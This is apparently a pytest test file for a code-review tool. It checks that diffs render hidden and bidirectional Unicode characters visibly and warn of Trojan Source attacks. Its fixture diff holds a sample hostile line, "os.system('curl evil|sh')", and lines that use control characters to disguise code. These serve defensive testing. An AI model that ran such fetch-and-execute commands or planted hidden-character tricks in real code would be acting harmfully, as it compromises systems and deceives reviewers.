"""What a reviewer sees is the diff that ships: every line of the rendered review, read back
from its HTML, is the diff's line, whatever hidden characters it carries."""

from html.parser import HTMLParser

import pytest

from triage.diffs import (
    highlight_file,
    parse_diff,
    render_split,
    render_unified,
    versions_compared,
)

# One sample per class of character that draws nothing or moves the text around it.
HIDDEN = {
    "carriage return": "\r",
    "line tabulation": "\x0b",
    "form feed": "\x0c",
    "NUL": "\x00",
    "escape": "\x1b",
    "next line": "\x85",
    "line separator": "\u2028",
    **{f"bidirectional U+{ord(c):04X}": c for c in "\u202a\u202b\u202c\u202d\u202e"},
    **{f"bidirectional U+{ord(c):04X}": c for c in "\u2066\u2067\u2068\u2069"},
    **{f"zero-width U+{ord(c):04X}": c for c in "\u200b\u200c\u200d\ufeff"},
    "replacement character": "\ufffd",
}


def _diff_with(char: str, path: str = "app/run.py") -> tuple[str, list[str]]:
    """A diff whose changed lines hide ``char`` mid-line (the Trojan Source shapes), and the
    lines a reviewer must see, in order."""
    lines = [
        " import os",
        f"-x = 1{char}# was here",
        f"+x = 2{char}# harmless comment",
        "+os.system('curl evil|sh')",
        f"+name = 'admin{char}'  # {char}comment",
        f"+{char}if access_level != 'user':",
        " done()",
    ]
    text = (
        f"diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n"
        f"@@ -1,3 +1,6 @@\n" + "\n".join(lines) + "\n"
    )
    return text, [line[1:] for line in lines]


class ReviewedLines(HTMLParser):
    """The text of each code cell of a rendered diff, with each hidden-character marker read
    back as the character it names."""

    def __init__(self):
        super().__init__()
        self.lines: list[str] = []
        self._depth = 0  # inside a code cell: how many elements deep
        self._marker = False
        self._row_kind = ""

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        classes = (attrs.get("class") or "").split()
        if tag == "tr":
            self._row_kind = next((c for c in classes if c.startswith("diff-")), "")
        if self._depth:
            self._depth += 1
            if "diff-hidden-char" in classes:
                self._marker = True
                self.lines[-1] += chr(int(attrs["data-codepoint"], 16))
        elif "diff-code" in classes and self._row_kind not in ("diff-hunk", "diff-comments"):
            self._depth = 1
            self.lines.append("")

    def handle_endtag(self, tag):
        if self._depth:
            self._depth -= 1
            self._marker = False

    def handle_data(self, data):
        if self._depth and not self._marker:
            self.lines[-1] += data


def _reviewed(html: str) -> list[str]:
    parser = ReviewedLines()
    parser.feed(str(html))
    parser.close()
    return parser.lines


def _split_expected(lines: list[str]) -> list[str]:
    """Side by side: context once per side, the removed line beside the first added one."""
    ctx_first, removed, added_1, added_2, added_3, added_4, ctx_last = lines
    return [
        ctx_first,
        ctx_first,
        removed,
        added_1,
        added_2,
        added_3,
        added_4,
        ctx_last,
        ctx_last,
    ]


@pytest.mark.parametrize("char", list(HIDDEN.values()), ids=list(HIDDEN))
@pytest.mark.parametrize("path", ["app/run.py", "notes.unknownext"])
def test_reviewed_lines_are_the_diffs_lines(char, path):
    text, expected = _diff_with(char, path)
    parsed = parse_diff(text)
    assert parsed.state == "ok"
    diff_file = highlight_file(parsed.files[0])
    assert [line.text for line in diff_file.lines if line.kind != "hunk"] == expected
    unified = render_unified(diff_file, file_index=0, threads={})
    assert _reviewed(unified) == expected
    split = render_split(diff_file, file_index=0, threads={})
    assert _reviewed(split) == _split_expected(expected)
    # Shown, never passed through raw: the browser would hide it or act on it.
    for html in (unified, split):
        assert char not in html


def test_a_carriage_return_cannot_show_an_added_command_as_a_comment():
    text, _ = _diff_with("\r")
    diff_file = highlight_file(parse_diff(text).files[0])
    html = render_unified(diff_file, file_index=0, threads={})
    rows = _reviewed(html)
    command = next(i for i, row in enumerate(rows) if "os.system" in row)
    assert rows[command] == "os.system('curl evil|sh')"
    assert "harmless comment" in rows[command - 1] and "x = 2" in rows[command - 1]
    assert 'title="U+000D CARRIAGE RETURN"' in html and "\u240d" in html


@pytest.mark.parametrize("char", ["\u202e", "\u2066", "\u200b", "\x0c"])
def test_the_diff_says_which_hidden_characters_it_holds(char):
    text, _ = _diff_with(char)
    parsed = parse_diff(text)
    kind = (
        "bidirectional"
        if char in "\u202e\u2066"
        else "zero-width"
        if char == "\u200b"
        else "control"
    )
    assert parsed.hidden_characters == {kind: 5}
    assert parsed.has_bidirectional_controls == (kind == "bidirectional")


def test_a_diff_with_crlf_line_endings_is_read_without_markers():
    text, expected = _diff_with("")
    parsed = parse_diff(text.replace("\n", "\r\n"))
    assert [line.text for line in parsed.files[0].lines if line.kind != "hunk"] == expected
    assert parsed.hidden_characters == {}


@pytest.mark.parametrize("char", ["\r", "\x0b", "\x0c", "\u2028", "\x85"])
def test_comparing_versions_keeps_one_line_per_line(char):
    old, _ = _diff_with("")
    new, _ = _diff_with(char)
    # Both versions change the same source line; they differ in what they add.
    new = new.replace(f"-x = 1{char}# was here", "-x = 1# was here")
    between = versions_compared(old_text=old, new_text=new)
    assert between.state == "ok"
    changed = [line for line in between.files[0].lines if line.kind in ("add", "del")]
    # Three lines of the files differ: each shows once, removed and added, not broken apart.
    assert len(changed) == 6
    added = [line.text for line in changed if line.kind == "add"]
    assert added == [line[1:] for line in new.split("\n") if char in line]


# The fix page


@pytest.fixture
def hidden_fix(db, team):
    from .factories import FixFactory, RepositoryFactory

    text, _ = _diff_with("\u202e")
    return FixFactory(repository=RepositoryFactory(team=team), diff=text)


def _fix_url(name, fix, **kwargs):
    from django.urls import reverse

    return reverse(name, kwargs={"team_slug": fix.team.slug, "fix_id": fix.pk, **kwargs})


@pytest.mark.django_db
def test_the_fix_page_warns_of_bidirectional_controls_and_shows_them(hidden_fix, member, client_as):
    from triage.models import Role

    client = client_as(member(Role.APPROVER))
    page = client.get(_fix_url("fixes-detail", hidden_fix)).content.decode()
    assert 'id="hidden-characters-warning"' in page and "CVE-2021-42574" in page
    body = client.get(_fix_url("fixes-file", hidden_fix, file_index=0)).content.decode()
    _, expected = _diff_with("\u202e")
    assert _reviewed(body) == expected
    assert "\u202e" not in body
    assert 'title="U+202E RIGHT-TO-LEFT OVERRIDE"' in body


@pytest.mark.django_db
def test_a_diff_without_hidden_characters_has_no_warning(team, member, client_as):
    from triage.models import Role

    from .factories import FixFactory, RepositoryFactory

    fix = FixFactory(repository=RepositoryFactory(team=team))
    page = client_as(member(Role.VIEWER)).get(_fix_url("fixes-detail", fix)).content.decode()
    assert 'id="hidden-characters-warning"' not in page
